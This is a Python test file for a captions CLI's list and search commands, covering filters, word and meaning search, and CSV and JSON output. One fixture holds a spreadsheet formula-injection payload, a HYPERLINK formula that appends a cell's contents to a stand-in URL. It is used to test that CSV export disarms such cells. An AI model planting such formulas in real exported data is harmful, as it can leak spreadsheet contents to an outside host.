"""``captions list`` and ``captions search``: which images, and how they are printed."""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from functions import composition
from functions.core import search_terms
from functions.core.document import Document, Review
from functions.settings import Settings
from tests.support.answers import gemini
from tests.support.command_line import Ran, captions
from tests.support.meanings import vector
from tests.support.model_server import ModelServer
from tests.support.stack import Stack

NOW = datetime.now(UTC)
FORMULA = '=HYPERLINK("http://example.com?"&A1,"Go")'


def document(name: str, alt: str, days: int = 0, **changes: Any) -> Document:
    values: dict[str, Any] = {
        "bucket": "local",
        "generation": 1,
        "status": "captioned",
        "created_at": NOW,
        "updated_at": NOW - timedelta(days=days),
        "language": "en",
        "source": "model",
        "alt_text": alt,
        "caption": f"{alt}.",
        "search_terms": search_terms.terms([alt]),
    }
    return Document(name=name, **values | changes)


DOCUMENTS = (
    document("shop/mug.jpg", "Blue mug beside a kettle", days=3, tags=("mug", "kitchen")),
    document("shop/kettle.jpg", "Steel kettle", days=1, source="human", tags=("kitchen",)),
    document(
        "trip/boot.jpg", "Ein blaues Boot", days=20, language="de", review=Review(True, ("x",))
    ),
    document("trip/dog.jpg", "公園で犬が走る", days=10, language="ja"),
    document("trip/bad.jpg", "", status="failed", search_terms=("blue",)),
    document("odd/=1+1.jpg", FORMULA, days=30, tags=("@home",), bucket="others"),
)


@pytest.fixture
def place(embedded: Stack, tmp_path: Path) -> Path:
    """A folder to run in, with DOCUMENTS in the store that the command will find. That Firestore
    answers alike is tests/contracts/test_queries.py's; that it is asked, the next fixture's."""
    return filled(tmp_path)


@pytest.fixture
def place_beside_firestore(cloud: Stack, tmp_path: Path) -> Path:
    """The same with Firestore."""
    return filled(tmp_path)


def filled(folder: Path) -> Path:
    store = composition.store(Settings.from_env(os.environ))
    for each in DOCUMENTS:
        assert store.create(each)
    return folder


def by_words(place: Path, text: str, *options: str) -> Ran:
    """A search where no model is set for meaning."""
    return captions("search", text, *options, where=place, CAPTION_EMBEDDING_MODEL="")


def listed(place: Path, *options: str) -> list[str]:
    run = captions("list", "--json", *options, where=place)
    assert run.status == 0, run.err
    return [record["name"].partition("/")[2] for record in run.records]


@pytest.mark.parametrize(
    ("options", "names"),
    [
        ([], ["bad.jpg", "kettle.jpg", "mug.jpg", "dog.jpg", "boot.jpg", "=1+1.jpg"]),
        (["--status", "failed"], ["bad.jpg"]),
        (["--tag", "Kitchen"], ["kettle.jpg", "mug.jpg"]),
        (["--language", "DE"], ["boot.jpg"]),
        (["--prefix", "trip/"], ["bad.jpg", "dog.jpg", "boot.jpg"]),
        (["--bucket", "others"], ["=1+1.jpg"]),
        (["--source", "human"], ["kettle.jpg"]),
        (["--review"], ["boot.jpg"]),
        (["--since", "5d"], ["bad.jpg", "kettle.jpg", "mug.jpg"]),
        (["--since", "2w", "--until", "48h"], ["mug.jpg", "dog.jpg"]),
        (["--until", f"{NOW - timedelta(days=15):%Y-%m-%d}"], ["boot.jpg", "=1+1.jpg"]),
        (["--since", f"{NOW - timedelta(days=2):%Y-%m-%dT%H:%M:%SZ}"], ["bad.jpg", "kettle.jpg"]),
        (["--words", "KETTLE, boot"], ["kettle.jpg", "mug.jpg", "boot.jpg"]),
        (["--tag", "kitchen", "--words", "mug", "--prefix", "shop/"], ["mug.jpg"]),
    ],
)
def test_each_filter_keeps_what_it_names(place: Path, options: list[str], names: list[str]) -> None:
    assert listed(place, *options) == names


def test_firestore_is_asked_by_filters_and_by_words(place_beside_firestore: Path) -> None:
    place = place_beside_firestore
    both = ["--tag", "kitchen", "--words", "mug", "--prefix", "shop/", "--since", "5d"]
    assert listed(place, *both) == ["mug.jpg"]
    found = by_words(place, "blue kettle", "--source", "human", "--json")
    assert [each["name"] for each in found.records] == ["shop/kettle.jpg"]


def test_a_search_by_words_ranks_by_how_many_are_matched(place: Path) -> None:
    run = by_words(place, "a blue kettle", "--json")

    assert [(each["name"], each["matched"]) for each in run.records] == [
        ("shop/mug.jpg", 3),
        ("shop/kettle.jpg", 1),
    ]
    assert run.err.startswith("By words")
    assert [each["name"] for each in by_words(place, "犬", "--json").records] == ["trip/dog.jpg"]


def test_a_word_is_one_word_with_its_accents_and_without(embedded: object, tmp_path: Path) -> None:
    store = composition.store(Settings.from_env(os.environ))
    store.create(document("cafe.jpg", "A café"))
    stored_before = {"search_terms": ("un", "café")}
    store.create(document("before.jpg", "Un café", days=1, **stored_before))
    store.create(document("blue.jpg", "A blue cafe", days=2))
    found = {
        text: [
            (each["name"], each["matched"]) for each in by_words(tmp_path, text, "--json").records
        ]
        for text in ("cafe", "café", "blue café")
    }

    assert found["cafe"] == [("cafe.jpg", 1), ("blue.jpg", 1)]
    assert found["café"] == [("cafe.jpg", 1), ("before.jpg", 1), ("blue.jpg", 1)]
    assert found["blue café"][0] == ("blue.jpg", 2)


def test_a_frequent_word_does_not_hide_those_of_a_rare_one(
    embedded: object, tmp_path: Path
) -> None:
    store = composition.store(Settings.from_env(os.environ))
    store.create(document("old.jpg", "A kettle", days=9))
    for number in range(510):
        store.create(document(f"{number}.jpg", "A mug"))
    run = by_words(tmp_path, "a kettle", "--limit", "1", "--json")

    assert [(each["name"], each["matched"]) for each in run.records] == [("old.jpg", 2)]
    assert "Many have 'a': the last 500 of them are ranked." in run.err


def test_what_a_limit_cuts_off_is_said_to_programs_too(place: Path) -> None:
    for form in ("--json", "--csv"):
        run = captions("list", form, "--limit", "2", where=place)
        assert "there are more (--limit)" in run.err


def test_a_search_takes_the_filters_and_the_limit(place: Path) -> None:
    filtered = by_words(place, "blue kettle", "--source", "human", "--json")
    best = by_words(place, "blue kettle", "--limit", "1", "--json")

    assert [each["name"] for each in filtered.records] == ["shop/kettle.jpg"]
    assert [each["name"] for each in best.records] == ["shop/mug.jpg"]


def test_tables_have_a_line_an_image_and_the_rank(place: Path) -> None:
    run = by_words(place, "kettle")

    head, *lines = run.out.splitlines()
    assert head.split()[-1] == "Matched"
    assert [line.split()[0] for line in lines] == ["shop/kettle.jpg", "shop/mug.jpg"]


def test_nothing_found_is_said_and_no_failure(place: Path) -> None:
    run = by_words(place, "zebra")

    assert (run.status, run.out) == (0, "")
    assert "No captions there: the " in run.err


def _raw(place: Path, *arguments: str) -> bytes:
    import subprocess
    import sys

    from tests.support.command_line import environment

    command = [sys.executable, "-m", "functions.cli", *arguments]
    env = environment({"PYTHONUTF8": "0", "LC_ALL": "C", "CAPTION_EMBEDDING_MODEL": ""})
    return subprocess.run(command, cwd=place, env=env, capture_output=True, check=True).stdout


def test_csv_is_utf_8_by_rfc_4180_whatever_the_locale(place: Path) -> None:
    raw = _raw(place, "list", "--csv", "--status", "captioned")

    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline=""), strict=True))
    assert raw.count(b"\r\n") == len(rows) == 6
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert records[1]["tags"] == "mug, kitchen"
    assert records[2]["alt_text"] == "公園で犬が走る"
    assert records[3]["review"] == "x"
    assert records[0]["updated_at"].endswith("Z")


def test_a_cell_that_a_spreadsheet_would_compute_is_disarmed_and_json_is_exact(
    place: Path,
) -> None:
    text = _raw(place, "list", "--csv", "--bucket", "others").decode()
    (record,) = csv.DictReader(io.StringIO(text, newline=""))

    assert record["alt_text"] == f"'{FORMULA}"
    assert record["tags"] == "'@home"
    assert record["uri"] == "gs://others/odd/=1+1.jpg"
    exact = captions("list", "--json", "--bucket", "others", where=place).records[0]
    assert (exact["alt_text"], exact["tags"]) == (FORMULA, ["@home"])


def test_a_found_nothing_in_csv_is_its_header(place: Path) -> None:
    assert _raw(place, "list", "--csv", "--tag", "absent").startswith(b"uri,status,alt_text,")
    assert _raw(place, "search", "zebra", "--csv").rstrip().endswith(b",updated_at,matched")


@pytest.mark.parametrize(
    ("arguments", "remedy"),
    [
        (["list", "--since", "yesterday"], "like 90m, 12h, 7d, 2w"),
        (["list", "--until", "99999999w"], "like 90m"),
        (["list", "--until", "2026-13-01"], "like 90m"),
        (["list", "--language", "english"], "write 'en'"),
        (["list", "--source", "robot"], "'human'"),
        (["list", "--words", "!?"], "write what the images show"),
        (["list", "--json", "--csv"], "exclude each other"),
        (["search"], "Missing argument"),
        (["search", " "], "write what the images show"),
    ],
)
def test_wrong_usage_ends_with_2_and_what_is_right(
    tmp_path: Path, arguments: list[str], remedy: str
) -> None:
    run: Ran = captions(*arguments, "--local", ".", where=tmp_path)

    assert run.status == 2
    assert remedy in run.err
    assert "Traceback" not in run.err


def test_json_leaves_out_the_numbers_of_an_embedding(stack: Stack, tmp_path: Path) -> None:
    store = composition.store(Settings.from_env(os.environ))
    assert store.create(document("a.jpg", "A mug", embedding=(1.0, *[0.0] * 767)))

    out = captions("list", "--json", where=tmp_path).out
    assert "embedding" not in json.loads(out)


def test_a_search_brings_the_nearest_in_meaning_and_takes_the_filters(
    stack: Stack, tmp_path: Path
) -> None:
    store = composition.store(Settings.from_env(os.environ))
    for name, text in (("a", "copper kettle"), ("b", "red bicycle"), ("c", "kettle beside a cup")):
        store.create(document(name, "", embedding=tuple(vector(text)), tags=(name,)))
    run = captions("search", "kettle", "--limit", "2", "--json", where=tmp_path)

    assert (run.status, run.err) == (0, "")
    found = [(each["name"], each["nearness"]) for each in run.records]
    assert sorted(name for name, _ in found) == ["a", "c"]
    assert 1 > found[0][1] > found[1][1] > 0.4
    filtered = captions("search", "kettle", "--tag", "b", "--json", where=tmp_path)
    assert [each["name"] for each in filtered.records] == ["b"]


def test_a_search_is_by_words_where_nothing_is_embedded_or_the_model_is_down(
    place: Path, model_server: ModelServer
) -> None:
    plain = captions("search", "kettle", "--json", where=place)
    model_server.always_embed(gemini.error(503, "UNAVAILABLE", "The model is overloaded."))
    down = captions("search", "kettle", "--json", where=place)

    assert [each["name"] for each in plain.records] == ["shop/kettle.jpg", "shop/mug.jpg"]
    assert plain.records == down.records
    assert "no caption there has been embedded" in plain.err
    assert "meaning cannot be searched now" in down.err
